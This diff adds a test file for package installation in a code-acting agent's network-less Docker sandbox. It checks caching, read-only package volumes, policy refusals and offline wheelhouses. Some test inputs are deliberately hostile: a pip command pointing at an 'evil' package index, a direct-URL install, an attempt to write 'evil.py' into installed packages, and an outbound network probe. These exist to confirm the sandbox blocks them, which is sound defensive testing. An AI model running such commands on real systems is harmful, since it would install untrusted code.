@@ -1,0 +1,343 @@
+"""Packages in Docker sandboxes, against the real registry (through the host's pip) and the real engine.
+
+The sandbox never has a network: every test that installs something also
+shows that the code still cannot reach anything. Small packages keep the
+downloads short: ``tabulate`` (pure Python) and ``msgpack`` (a compiled
+extension). The host's package cache is a fresh directory for this test
+session, so "first time" means first time.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import threading
+import zipfile
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from codeact import CodeActAgent
+from codeact.events import PackageInstall, RunFinished
+from codeact.models import ScriptedModel
+from codeact.runlog import RunLog
+from sandbox import DockerSandbox
+from sandbox._pkg_cache import sha256_of
+from sandbox.packages import PackagePolicy
+
+pytestmark = [pytest.mark.docker, pytest.mark.timeout(600)]
+
+NO_NETWORK = """
+import socket
+try:
+    socket.create_connection(("1.1.1.1", 53), timeout=3)
+    print("NETWORK: reachable")
+except OSError as exc:
+    print("NETWORK: unreachable", type(exc).__name__)
+"""
+
+
+@pytest.fixture(scope="session")
+def cache_dir(tmp_path_factory: pytest.TempPathFactory) -> str:
+    return str(tmp_path_factory.mktemp("package-cache"))
+
+
+@pytest.fixture(scope="session")
+def env_volumes() -> Any:
+    """Names of shared package volumes the tests made; removed at the end (when no container uses them)."""
+    made: set[str] = set()
+    yield made
+    from sandbox.container import docker_client
+
+    client = docker_client()
+    for name in made:
+        try:
+            client.volumes.get(name).remove(force=True)
+        except Exception:
+            pass
+
+
+def policy(cache_dir: str, **options: Any) -> PackagePolicy:
+    return PackagePolicy(cache_dir=cache_dir, **options)
+
+
+def py(code: str) -> str:
+    return f"Let me do that.\n```python\n{code.strip()}\n```"
+
+
+def run_ok(sb: DockerSandbox, code: str) -> str:
+    r = sb.run(code)
+    assert r.error is None, f"{r.error}\n{r.stdout}\n{r.stderr}"
+    return r.stdout
+
+
+# --------------------------------------------------------------------------- installing at run time
+
+
+def test_runtime_install_of_pure_and_compiled_packages_then_from_cache(cache_dir: str) -> None:
+    with DockerSandbox(package_policy=policy(cache_dir)) as sb:
+        out = run_ok(sb, "install('tabulate', 'msgpack')\n"
+                         "import tabulate, msgpack\n"
+                         "print(tabulate.tabulate([['a', 1]], tablefmt='plain'))\n"
+                         "print(msgpack.unpackb(msgpack.packb({'k': [1, 2]})))\n"
+                         "print(msgpack.__file__)")
+        assert "Installed" in out and "msgpack" in out and "tabulate" in out
+        assert "a  1" in out and "{'k': [1, 2]}" in out
+        assert "/opt/codeact/packages/" in out and ".so" not in out.split("msgpack.__file__")[0]
+        first = sb.packages.records[-1]
+        assert first.ok and first.downloaded == 2 and not first.resolved_from_cache
+        assert {p.name for p in first.packages} == {"tabulate", "msgpack"}
+        # The code cannot change what the host installed, nor reach the network after an install.
+        out = run_ok(sb, "import msgpack, os\ntry:\n    open(os.path.join(os.path.dirname(msgpack.__file__), "
+                         "'evil.py'), 'w')\nexcept OSError as e: print('readonly', e.errno)\n" + NO_NETWORK)
+        assert "readonly 13" in out and "NETWORK: unreachable" in out
+    with DockerSandbox(package_policy=policy(cache_dir)) as sb:
+        out = run_ok(sb, "install('tabulate', 'msgpack')\nimport msgpack\nprint(msgpack.version)")
+        assert "from the host's cache" in out
+        second = sb.packages.records[-1]
+        assert second.resolved_from_cache and second.downloaded == 0
+        assert run_ok(sb, NO_NETWORK).strip().startswith("NETWORK: unreachable")
+
+
+def test_pip_lines_in_model_code_are_installs_and_logged(tmp_path: Path, cache_dir: str) -> None:
+    model = ScriptedModel([
+        py("%pip install -q tabulate\nimport tabulate\nprint('pct', tabulate.__name__)"),
+        py("!pip install msgpack\nimport msgpack\nprint('bang', msgpack.unpackb(msgpack.packb(7)))\n"
+           "!echo still-a-shell\n" + NO_NETWORK),
+        py("final_answer('done')"),
+    ])
+    agent = CodeActAgent(model, sandbox="docker", log=tmp_path / "runs.db", output_dir=tmp_path / "out",
+                         package_policy=policy(cache_dir))
+    events = list(agent.stream("use two packages"))
+    result = events[-1].result  # type: ignore[attr-defined]
+    assert isinstance(events[-1], RunFinished) and result.status == "success", result
+    obs = [s.observation or "" for s in result.steps]
+    assert "pct tabulate" in obs[0] and "bang 7" in obs[1] and "still-a-shell" in obs[1]
+    assert "NETWORK: unreachable" in obs[1] and "Installed msgpack" in obs[1]
+    installs = [e for e in events if isinstance(e, PackageInstall)]
+    assert [(e.step, e.requirements, e.source) for e in installs] == [
+        (1, ["tabulate"], "runtime"), (2, ["msgpack"], "runtime")]
+    assert installs[1].packages[0]["name"] == "msgpack" and installs[1].packages[0]["version"]
+    log = RunLog(tmp_path / "runs.db")
+    try:
+        stored = [e for e in log.get_events(result.run_id) if e.get("type") == "PackageInstall"]
+    finally:
+        log.close()
+    assert len(stored) == 2, stored
+    assert "msgpack" in json.dumps(stored)
+
+
+def test_packages_up_front_are_materialised_once_and_shared(tmp_path: Path, cache_dir: str,
+                                                            env_volumes: set[str]) -> None:
+    model = ScriptedModel([py("import tabulate, msgpack\nprint(tabulate.__name__, msgpack.version >= (1,))\n"
+                              "final_answer('ok')")])
+    agent = CodeActAgent(model, sandbox="docker", log=tmp_path / "runs.db", output_dir=tmp_path / "out",
+                         packages=["tabulate", "msgpack"], package_policy=policy(cache_dir))
+    events = list(agent.stream("check"))
+    result = events[-1].result  # type: ignore[attr-defined]
+    assert result.status == "success", result
+    assert "tabulate True" in (result.steps[0].observation or "")
+    upfront = [e for e in events if isinstance(e, PackageInstall)]
+    assert len(upfront) == 1 and upfront[0].source == "upfront" and upfront[0].step == 0
+    with agent.session() as chat:  # the prompt names what is installed and that install() exists
+        chat.send("again")
+        system = chat.messages[0].content
+    assert "tabulate" in system and "install(" in system and "numpy" in system
+    with DockerSandbox(packages=["msgpack", "tabulate"], package_policy=policy(cache_dir)) as sb:
+        record = sb.packages.records[0]
+        assert record.location == "env" and record.downloaded == 0
+        volume = sb._kernel.packages.backend.env_volume
+        env_volumes.add(volume)
+        out = run_ok(sb, "import msgpack, tabulate\nprint(msgpack.__file__)\n"
+                         "try:\n    open('/opt/codeact/env/x', 'w')\nexcept OSError as e: print('ro', e.errno)\n"
+                         + NO_NETWORK)
+        assert out.splitlines()[0].startswith("/opt/codeact/env/") and "ro 30" in out
+        assert "NETWORK: unreachable" in out
+        assert sb.container.attrs["HostConfig"]["NetworkMode"] == "none"
+        mounts = {m["Destination"]: m for m in sb.container.attrs["Mounts"]}
+        assert mounts["/opt/codeact/env"]["Name"] == volume and mounts["/opt/codeact/env"]["RW"] is False
+
+
+def test_every_refusal_arrives_as_package_install_error(cache_dir: str) -> None:
+    asked: list[Any] = []
+
+    def approve(request: Any) -> bool:
+        asked.append(request)
+        return "tabulate" not in request.requirements
+
+    rules = policy(cache_dir, deny=("msgpack*",), max_total_bytes=5_000_000, approve=approve)
+    cases = {
+        "denied": ("install('msgpack')", "policy", "msgpack matches the deny rule 'msgpack*'"),
+        "source-only": ("install('docopt')", "no_wheel", "only a source distribution"),
+        "nonexistent": ("install('codeact-no-such-package-zq81x')", "not_found", "no package named"),
+        "conflict": ("install('numpy<2')", "conflict", "numpy 2."),
+        "too large": ("install('scipy')", "too_large", "may add 5.0 MB in all"),
+        "approval": ("install('tabulate')", "denied", "did not allow"),
+        "not a requirement": ("install('pkg @ https://example.com/x.whl')", "invalid", "direct URLs"),
+        "index option": ("%pip install -i http://evil/simple six", "policy", "the host chooses"),
+    }
+    with DockerSandbox(package_policy=rules) as sb:
+        for name, (code, kind, words) in cases.items():
+            if code.startswith("%"):  # a magic cannot sit in a try block: the error ends the cell
+                r = sb.run(code)
+                assert r.error is not None and r.error.type == "PackageInstallError", (name, r.error)
+                out = f"{kind} | {r.error.message}"
+            else:
+                out = run_ok(sb, f"try:\n    {code}\nexcept PackageInstallError as e:\n"
+                                 f"    print(e.kind, '|', e, '|', e.details)")
+            assert out.startswith(kind + " |") and words in out, (name, out)
+        # Nothing of a refused install is importable, and the sandbox is still offline.
+        out = run_ok(sb, "import importlib.util as u, sys\n"
+                         "print([m for m in ('msgpack', 'docopt', 'scipy', 'tabulate') if u.find_spec(m)])\n"
+                         "print([p for p in sys.path if 'codeact' in p])\n" + NO_NETWORK)
+        assert out.splitlines()[:2] == ["[]", "[]"] and "NETWORK: unreachable" in out
+        assert [r.error_kind for r in sb.packages.records] == [
+            "policy", "no_wheel", "not_found", "conflict", "too_large", "denied", "invalid"]
+    assert [a.requirements for a in asked] == [("tabulate",)]
+
+
+def test_installs_survive_a_kernel_restart_but_not_the_session(cache_dir: str) -> None:
+    with DockerSandbox(package_policy=policy(cache_dir)) as sb:
+        run_ok(sb, "install('tabulate', quiet=True)")
+        sb.restart()
+        assert "tabulate" in run_ok(sb, "import tabulate; print(tabulate.__name__)")
+    with DockerSandbox(package_policy=policy(cache_dir)) as sb:
+        out = run_ok(sb, "import importlib.util as u; print(u.find_spec('tabulate'))")
+        assert out.strip() == "None"
+
+
+def test_two_sessions_installing_the_same_package_at_once(tmp_path: Path, env_volumes: set[str]) -> None:
+    fresh = str(tmp_path / "fresh-cache")  # both must fetch: nothing is cached yet
+    outputs: dict[str, str] = {}
+    errors: list[BaseException] = []
+    barrier = threading.Barrier(2)
+
+    def session(name: str) -> None:
+        try:
+            with DockerSandbox(package_policy=policy(fresh)) as sb:
+                sb.start()
+                barrier.wait(60)
+                outputs[name] = run_ok(sb, "install('msgpack')\nimport msgpack\n"
+                                           "print('ok', msgpack.unpackb(msgpack.packb([1])))")
+        except BaseException as exc:  # noqa: BLE001
+            errors.append(exc)
+
+    threads = [threading.Thread(target=session, args=(n,)) for n in ("a", "b")]
+    for t in threads:
+        t.start()
+    for t in threads:
+        t.join(300)
+    assert not errors, errors
+    assert all("ok [1]" in out for out in outputs.values()) and len(outputs) == 2
+    wheels = list(Path(fresh, "wheels").glob("*/*.whl"))
+    assert len(wheels) == 1 and wheels[0].parent.name == sha256_of(wheels[0])
+
+    # Two sessions starting with the same set at once: one shared volume, filled once, both working.
+    from sandbox._pkg_docker import DockerPackageBackend
+    from sandbox.container import docker_client
+    from sandbox.packages import PackageCache, PackageInstaller
+
+    client = docker_client()
+    backend = DockerPackageBackend(client, _image(), PackageCache(fresh), lambda: None)
+    target, present, _ = backend.inspect()
+    plan = PackageInstaller(policy(fresh), target).plan(["tabulate", "msgpack"], present, source="upfront")
+    volume = f"codeact-env-{plan.content_hash(target)}"
+    try:
+        client.volumes.get(volume).remove(force=True)  # made by an earlier test: start from nothing
+    except Exception:
+        pass
+    env_volumes.add(volume)
+    used: dict[str, str] = {}
+
+    def upfront(name: str) -> None:
+        try:
+            barrier.wait(60)
+            with DockerSandbox(packages=["tabulate", "msgpack"], package_policy=policy(fresh)) as sb:
+                used[name] = sb._kernel.packages.backend.env_volume
+                assert "1" in run_ok(sb, "import tabulate, msgpack; print(1)")
+        except BaseException as exc:  # noqa: BLE001
+            errors.append(exc)
+
+    barrier.reset()
+    threads = [threading.Thread(target=upfront, args=(n,)) for n in ("a", "b")]
+    for t in threads:
+        t.start()
+    for t in threads:
+        t.join(300)
+    assert not errors, errors
+    assert set(used.values()) == {volume}
+    assert len(list(Path(fresh, "docker-envs").glob(f"*-{volume}.json"))) == 1
+
+
+def _image() -> str:
+    from sandbox.image import default_image_tag
+
+    return default_image_tag()
+
+
+def test_offline_wheelhouse_with_the_registry_blocked(tmp_path: Path, cache_dir: str,
+                                                       monkeypatch: pytest.MonkeyPatch) -> None:
+    wheelhouse = tmp_path / "wheelhouse"
+    wheelhouse.mkdir()
+    for wheel in Path(cache_dir, "wheels").glob("*/msgpack-*.whl"):  # a real compiled wheel, fetched earlier
+        shutil.copy(wheel, wheelhouse / wheel.name)
+    if not list(wheelhouse.glob("msgpack-*.whl")):
+        pytest.fail("the msgpack wheel from the earlier tests is not in the cache")
+    house_pkg = wheelhouse / "house_pkg-1.0-py3-none-any.whl"
+    with zipfile.ZipFile(house_pkg, "w") as z:  # a wheel that exists nowhere but here
+        z.writestr("house_pkg/__init__.py", "WHERE = 'wheelhouse'\n")
+        z.writestr("house_pkg-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: house_pkg\nVersion: 1.0\n")
+        z.writestr("house_pkg-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
+        z.writestr("house_pkg-1.0.dist-info/RECORD", "")
+    for var in ("HTTPS_PROXY", "HTTP_PROXY", "https_proxy", "http_proxy", "ALL_PROXY"):
+        monkeypatch.setenv(var, "http://127.0.0.1:9")  # the host-side fetcher cannot reach any registry
+    monkeypatch.setenv("PIP_CONFIG_FILE", os.devnull)
+    monkeypatch.setenv("PIP_RETRIES", "0")
+    for var in ("PIP_FIND_LINKS", "PIP_EXTRA_INDEX_URL", "PIP_INDEX_URL"):
+        monkeypatch.delenv(var, raising=False)
+    offline = policy(str(tmp_path / "offline-cache"), wheelhouse=str(wheelhouse), offline=True)
+    with DockerSandbox(package_policy=offline) as sb:
+        out = run_ok(sb, "install('house-pkg', 'msgpack')\nimport house_pkg, msgpack\n"
+                         "print(house_pkg.WHERE, msgpack.unpackb(msgpack.packb(3)))\n"
+                         "try:\n    install('tabulate')\nexcept PackageInstallError as e: print(e.kind)\n" + NO_NETWORK)
+        assert "wheelhouse 3" in out and "not_found" in out and "NETWORK: unreachable" in out
+    online = policy(str(tmp_path / "online-cache"))
+    with DockerSandbox(package_policy=online) as sb:  # the same request online fails: the block is real
+        out = run_ok(sb, "try:\n    install('tabulate')\nexcept PackageInstallError as e: print(e.kind)")
+        assert out.strip() == "unreachable"
+
+
+# --------------------------------------------------------------------------- the CLI
+
+
+def test_cli_packages_option_and_install_approval(tmp_path: Path, cache_dir: str,
+                                                   monkeypatch: pytest.MonkeyPatch) -> None:
+    from click.testing import CliRunner
+
+    from codeact.cli import cli
+
+    monkeypatch.setenv("CODEACT_DB", str(tmp_path / "runs.db"))
+    monkeypatch.setenv("CODEACT_OUTPUT_DIR", str(tmp_path / "out"))
+    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "xdg"))  # the CLI's default package cache
+    shutil.copytree(cache_dir, tmp_path / "xdg" / "codeact" / "packages")  # wheels fetched earlier
+    replies = tmp_path / "replies.json"
+    replies.write_text(json.dumps([
+        py("import tabulate\nprint('pre', tabulate.__name__)\n"
+           "try:\n    install('msgpack')\n    print('installed')\nexcept PackageInstallError as e:\n"
+           "    print('refused', e.kind)"),
+        py("final_answer('done')"),
+    ]))
+    monkeypatch.setenv("CODEACT_SCRIPTED_REPLIES", str(replies))
+    runner = CliRunner()
+    asked = runner.invoke(cli, ["run", "t", "--backend", "docker", "--packages", "tabulate", "--json"])
+    assert asked.exit_code == 0, asked.output
+    steps = json.loads(asked.stdout)["steps"]
+    assert "pre tabulate" in steps[0]["observation"] and "refused denied" in steps[0]["observation"]
+    assert "pass --yes" in asked.stderr  # no terminal to ask: denied, and told how to allow
+    allowed = runner.invoke(cli, ["run", "t", "--backend", "docker", "--packages", "tabulate", "--yes", "--json"])
+    assert allowed.exit_code == 0, allowed.output
+    assert "installed" in json.loads(allowed.stdout)["steps"][0]["observation"]
+    bad = runner.invoke(cli, ["run", "t", "--backend", "docker", "--offline"])
+    assert bad.exit_code != 0 and "needs wheelhouse" in bad.stderr and "Traceback" not in bad.stderr
